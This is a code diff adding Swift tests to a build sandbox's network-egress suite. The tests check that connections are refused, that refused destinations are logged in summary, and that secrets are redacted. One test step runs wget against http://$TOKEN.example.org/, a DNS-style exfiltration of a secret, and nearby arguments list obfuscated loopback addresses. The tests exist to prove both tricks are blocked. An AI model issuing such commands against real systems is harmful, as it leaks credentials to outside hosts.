@@ -63,6 +63,46 @@ struct EgressTests {
         #expect(server.requests == [])
     }
 
+    @Test("whatever a step asks for is told: the first destinations by name, the others by number, and no secret")
+    func told() async throws {
+        let server = try Self.server()
+        let sandbox = try TestSandbox { $0.allowedHosts = ["127.0.0.1:\(server.port)"] }
+        var step = try sandbox.step(
+            """
+            for n in $(seq 205) 203 204 1 1; do
+                wget -q -O- http://h$n.example.org/ 2>/dev/null
+            done
+            wget -q -O- http://$TOKEN.example.org/ 2>/dev/null; exit 3
+            """
+        )
+        step.step.network = .egress([])
+        step.secrets = ["TOKEN": Redacted("HiddenValue")]
+        let failure = try await #require(throws: BuildFailure.self) {
+            _ = try await sandbox.runner.run(step, log: sandbox.log)
+        }
+        let texts = sandbox.log.texts
+        #expect(texts.filter { $0.hasPrefix("step: refused a connection to h") }.count == 200)
+        #expect(texts.contains("step: network: h1.example.org:80, 3 connections refused"), "\(texts.suffix(5))")
+        #expect(texts.contains("step: network: 6 more destinations, 8 connections refused"), "\(texts.suffix(5))")
+        #expect(!(texts + [failure.message]).contains { $0.lowercased().contains("hiddenvalue") })
+    }
+
+    @Test("a secret that is asked for as a host is not shown by its refusal")
+    func secretHost() async throws {
+        let sandbox = try TestSandbox()
+        var step = try sandbox.step(
+            "wget -q -O- http://$TOKEN.example.org/ 2>/dev/null; exit 3"
+        )
+        step.step.network = .egress([])
+        step.secrets = ["TOKEN": Redacted("HiddenValue")]
+        let failure = try await #require(throws: BuildFailure.self) {
+            _ = try await sandbox.runner.run(step, log: sandbox.log)
+        }
+        #expect(failure.message.contains("It may not reach ***.example.org:80"), "\(failure)")
+        #expect(sandbox.log.texts.contains { $0.hasPrefix("step: refused a connection to ***.example.org:80: ") })
+        #expect(!sandbox.log.texts.contains { $0.lowercased().contains("hiddenvalue") })
+    }
+
     @Test(
         "a plan cannot open the node or its network: what names resolve to is looked at",
         arguments: ["localhost", "127.0.0.1", "2130706433", "0x7f.1", "[::1]", "[::ffff:127.0.0.1]"]
